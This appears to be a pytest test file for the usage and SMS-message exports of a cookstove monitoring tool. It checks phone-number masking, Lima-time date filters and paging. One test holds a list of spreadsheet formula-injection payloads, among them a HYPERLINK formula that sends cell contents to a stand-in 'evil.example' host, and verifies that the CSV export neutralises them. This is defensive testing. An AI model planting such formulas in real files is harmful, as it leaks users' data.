"""Exports: usage in force (or all, with what superseded what) and the masked message trail."""

import csv
import io
import json
from datetime import UTC, date, datetime
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import event

from core.models import Household, InboundMessage, Stove, UsageObservation
from core.monitoring import exports as export_service
from core.monitoring.exports import USAGE_COLUMNS, export_messages, export_usage
from gateway.cli import main
from gateway.wiring import Services

LIMA = "America/Lima"


def at(text: str) -> datetime:
    """An aware UTC moment from 'YYYY-MM-DDTHH:MM'."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


@pytest.fixture
def seeded(services: Services) -> Services:
    """Two stoves; ABC123's week 2026-W09 was corrected by a second SMS."""
    with services.uow() as uow:
        session = uow.session
        household = Household(name="Familia Quispe", district="Ayaviri")
        session.add(household)
        session.flush()
        assert household.id is not None
        first, second = (
            Stove(code=code, household_id=household.id, installed_on=date(2025, 11, 20))
            for code in ("XYZ789", "ABC123")
        )
        session.add_all([first, second])
        messages = [
            InboundMessage(provider="twilio", provider_id="SM0001", sender="+51987654321",
                           body="USO 4", received_at=at("2026-03-01T04:30"),
                           interpretation="usage", reply="Gracias, 4 dias"),
            InboundMessage(provider="android", provider_id="ev-0002", sender="+51987654321",
                           body="uso 5", received_at=at("2026-03-01T05:30"),
                           interpretation="usage", reply="Gracias, 5 dias"),
            InboundMessage(provider="android", provider_id="ev-0003", sender="+51912345678",
                           body="FOGON 2", received_at=at("2026-03-02T04:59"),
                           interpretation="open_fire"),
            InboundMessage(provider="android", provider_id="ev-0004", sender="+51912345678",
                           body="???", received_at=at("2026-03-02T05:00"),
                           interpretation="unreadable", needs_review=True),
        ]  # fmt: skip
        session.add_all(messages)
        session.flush()
        old = UsageObservation(stove_id=second.id, week="2026-W09", days_used=4,
                               source_message_id=messages[0].id,
                               reported_at=messages[0].received_at,
                               superseded_at=messages[1].received_at)  # fmt: skip
        session.add(old)
        session.flush()
        new = UsageObservation(stove_id=second.id, week="2026-W09", days_used=5,
                               source_message_id=messages[1].id,
                               reported_at=messages[1].received_at)  # fmt: skip
        other = UsageObservation(stove_id=first.id, week="2026-W09", open_fire_days=2,
                                 source_message_id=messages[2].id,
                                 reported_at=messages[2].received_at)  # fmt: skip
        session.add_all([new, other])
        session.flush()
        old.superseded_by_id = new.id
        session.add(old)
        uow.commit()
    return services


def test_usage_export_has_only_observations_in_force_by_stove_code(seeded: Services) -> None:
    rows = list(export_usage(seeded.uow()))

    assert rows == [
        {"id": 2, "stove_code": "ABC123", "week": "2026-W09", "days_used": 5,
         "open_fire_days": None, "source": "sms", "provider": "android", "source_id": "ev-0002",
         "reported_at": "2026-03-01T05:30:00Z", "superseded_by": None},
        {"id": 3, "stove_code": "XYZ789", "week": "2026-W09", "days_used": None,
         "open_fire_days": 2, "source": "sms", "provider": "android", "source_id": "ev-0003",
         "reported_at": "2026-03-02T04:59:00Z", "superseded_by": None},
    ]  # fmt: skip


def test_usage_export_with_all_adds_superseded_rows_and_their_replacement(
    seeded: Services,
) -> None:
    rows = list(export_usage(seeded.uow(), include_superseded=True))

    assert [(r["id"], r["stove_code"], r["days_used"], r["superseded_by"]) for r in rows] == [
        (1, "ABC123", 4, 2),
        (2, "ABC123", 5, None),
        (3, "XYZ789", None, None),
    ]
    assert (rows[0]["provider"], rows[0]["source_id"]) == ("twilio", "SM0001")


def test_usage_export_renders_csv_with_empty_cells_and_jsonl_with_nulls(
    seeded: Services,
) -> None:
    obj = {"settings": seeded.settings, "services": seeded}
    runner = CliRunner()

    as_csv = runner.invoke(main, ["export", "usage", "--all"], obj=obj)
    as_jsonl = runner.invoke(main, ["export", "usage", "--format", "jsonl"], obj=obj)

    assert as_csv.exit_code == 0, as_csv.output
    lines = as_csv.stdout.splitlines()
    assert lines[0] == ",".join(USAGE_COLUMNS)
    assert lines[1:] == [
        "1,ABC123,2026-W09,4,,sms,twilio,SM0001,2026-03-01T04:30:00Z,2",
        "2,ABC123,2026-W09,5,,sms,android,ev-0002,2026-03-01T05:30:00Z,",
        "3,XYZ789,2026-W09,,2,sms,android,ev-0003,2026-03-02T04:59:00Z,",
    ]
    assert as_jsonl.exit_code == 0, as_jsonl.output
    records = [json.loads(line) for line in as_jsonl.stdout.splitlines()]
    assert [record["id"] for record in records] == [2, 3]
    assert records[1]["days_used"] is None
    assert records[1]["superseded_by"] is None
    assert list(records[0]) == list(USAGE_COLUMNS)


def test_messages_export_masks_senders_unless_asked(seeded: Services) -> None:
    masked = list(export_messages(seeded.uow(), tz=LIMA))
    unmasked = list(export_messages(seeded.uow(), tz=LIMA, unmasked=True))

    assert [m["provider_id"] for m in masked] == ["SM0001", "ev-0002", "ev-0003", "ev-0004"]
    assert masked[0] == {
        "id": 1, "provider": "twilio", "provider_id": "SM0001",
        "received_at": "2026-03-01T04:30:00Z", "sender": "+51******321", "body": "[oculto]",
        "interpretation": "usage", "needs_review": False, "reply": "Gracias, 4 dias",
        "receipt_note": None, "reviewed_as": None, "reviewed_by": None, "reviewed_at": None,
    }  # fmt: skip
    assert masked[3]["needs_review"] is True
    assert masked[3]["reply"] is None
    assert [m["sender"] for m in unmasked][:3] == ["+51987654321"] * 2 + ["+51912345678"]
    assert unmasked[0]["body"] == "USO 4"


@pytest.mark.parametrize(
    ("first_day", "last_day", "expected"),
    [
        # 04:30Z on 1 March is still 28 February in Lima (UTC-5).
        (date(2026, 3, 1), date(2026, 3, 1), ["ev-0002", "ev-0003"]),
        (date(2026, 2, 28), date(2026, 2, 28), ["SM0001"]),
        (date(2026, 3, 2), None, ["ev-0004"]),
        (None, date(2026, 2, 28), ["SM0001"]),
        (None, None, ["SM0001", "ev-0002", "ev-0003", "ev-0004"]),
    ],
)
def test_messages_export_filters_on_local_days_inclusive(
    seeded: Services, first_day: date | None, last_day: date | None, expected: list[str]
) -> None:
    rows = export_messages(seeded.uow(), tz=LIMA, first_day=first_day, last_day=last_day)

    assert [row["provider_id"] for row in rows] == expected


def test_messages_export_command_renders_csv_with_the_date_filter(seeded: Services) -> None:
    obj = {"settings": seeded.settings, "services": seeded}
    args = ["export", "messages", "--from", "2026-03-01", "--to", "2026-03-01"]

    result = CliRunner().invoke(main, args, obj=obj)
    unmasked = CliRunner().invoke(main, [*args, "--unmasked", "--format", "jsonl"], obj=obj)

    assert result.exit_code == 0, result.output
    records = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["provider_id"], r["sender"], r["needs_review"]) for r in records] == [
        ("ev-0002", "'+51******321", "false"),  # a leading + would start a formula
        ("ev-0003", "'+51******678", "false"),
    ]
    assert records[1]["reply"] == ""
    assert unmasked.exit_code == 0, unmasked.output
    senders = [json.loads(line)["sender"] for line in unmasked.stdout.splitlines()]
    assert senders == ["+51987654321", "+51912345678"]


def test_messages_export_refuses_a_period_that_ends_before_it_starts(seeded: Services) -> None:
    obj = {"settings": seeded.settings, "services": seeded}
    args = ["export", "messages", "--from", "2026-03-02", "--to", "2026-03-01"]

    result = CliRunner().invoke(main, args, obj=obj)

    assert result.exit_code == 1
    assert result.stderr == "qoncha: --to 2026-03-01 is before --from 2026-03-02\n"
    assert result.stdout == ""


def test_messages_export_lists_the_review_queue_alone_when_asked(seeded: Services) -> None:
    obj = {"settings": seeded.settings, "services": seeded}

    queue = list(export_messages(seeded.uow(), tz=LIMA, needs_review=True, unmasked=True))
    result = CliRunner().invoke(main, ["export", "messages", "--needs-review"], obj=obj)

    assert [(row["provider_id"], row["body"]) for row in queue] == [("ev-0004", "???")]
    assert result.exit_code == 0, result.output
    records = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["provider_id"], r["needs_review"]) for r in records] == [("ev-0004", "true")]


def test_review_queue_is_read_through_its_partial_index(seeded: Services) -> None:
    statements: list[tuple[str, Any]] = []

    def record(_conn: Any, _cursor: Any, statement: str, parameters: Any, *_: Any) -> None:
        statements.append((statement, parameters))

    event.listen(seeded.engine, "before_cursor_execute", record)
    try:
        list(export_messages(seeded.uow(), tz=LIMA, needs_review=True))
    finally:
        event.remove(seeded.engine, "before_cursor_execute", record)
    (statement, parameters), *_ = [s for s in statements if "FROM inbound_messages" in s[0]]
    with seeded.engine.connect() as conn:
        if conn.dialect.name == "sqlite":
            explain, column = "EXPLAIN QUERY PLAN ", -1
        else:  # a handful of rows: make the planner show whether it could use the index
            conn.exec_driver_sql("SET enable_seqscan = off")
            explain, column = "EXPLAIN ", 0
        plan = " ".join(
            str(row[column]) for row in conn.exec_driver_sql(explain + statement, parameters)
        )

    assert "ix_inbound_review_queue" in plan


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1"]


def test_messages_export_csv_neutralises_formulas_and_jsonl_keeps_the_text(
    services: Services,
) -> None:
    with services.uow() as uow:
        for number, body in enumerate(FORMULAS):
            uow.session.add(InboundMessage(
                provider="twilio", provider_id=f"SM{number}", sender="+51987654321", body=body,
                received_at=at("2026-03-01T12:00"), interpretation="unreadable",
            ))  # fmt: skip
        uow.commit()
    obj = {"settings": services.settings, "services": services}
    args = ["export", "messages", "--unmasked"]
    result = CliRunner().invoke(main, args, obj=obj)
    jsonl = CliRunner().invoke(main, [*args, "--format", "jsonl"], obj=obj)
    records = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["body"] for r in records] == [
        "'" + body.replace("\t", "\t'") for body in FORMULAS  # a tab splits cells too
    ]
    assert {r["sender"] for r in records} == {"'+51987654321"}
    assert [json.loads(line)["body"] for line in jsonl.stdout.splitlines()] == FORMULAS


@pytest.mark.parametrize(
    "moment", [datetime(1, 1, 1, tzinfo=UTC), datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)],
    ids=["year-1", "year-9999"],
)
def test_messages_export_never_fails_on_a_time_that_was_stored(
    services: Services, moment: datetime
) -> None:
    """Rows stored before receive times were range-checked still export, every run."""
    with services.uow() as uow:
        uow.session.add(InboundMessage(provider="android", provider_id="ev-old", sender="+519",
                                       body="uso 5", received_at=moment))  # fmt: skip
        uow.commit()
    obj = {"settings": services.settings, "services": services}
    for fmt in ("csv", "jsonl"):
        result = CliRunner().invoke(main, ["export", "messages", "--format", fmt], obj=obj)
        assert result.exit_code == 0, result.output
        assert moment.isoformat(timespec="seconds").replace("+00:00", "Z") in result.stdout


def test_exports_read_page_after_page_without_losing_or_repeating_a_row(
    seeded: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each page is its own short transaction; the next starts after the last row read."""
    whole_usage = list(export_usage(seeded.uow(), include_superseded=True))
    whole_messages = list(export_messages(seeded.uow(), tz=LIMA))
    with seeded.uow() as uow:  # a message at the same instant as another: ties go by id
        uow.session.add(InboundMessage(provider="twilio", provider_id="SM0005", sender="+519",
                                       body="5", received_at=at("2026-03-01T05:30")))  # fmt: skip
        uow.commit()
    monkeypatch.setattr(export_service, "CHUNK_ROWS", 1)
    monkeypatch.setattr(export_service, "STOVES_PER_PAGE", 1)

    paged_usage = list(export_usage(seeded.uow(), include_superseded=True))
    paged_ids = [row["provider_id"] for row in export_messages(seeded.uow(), tz=LIMA)]

    assert paged_usage == whole_usage
    assert paged_ids == ["SM0001", "ev-0002", "SM0005", "ev-0003", "ev-0004"]
    assert len(whole_messages) == 4
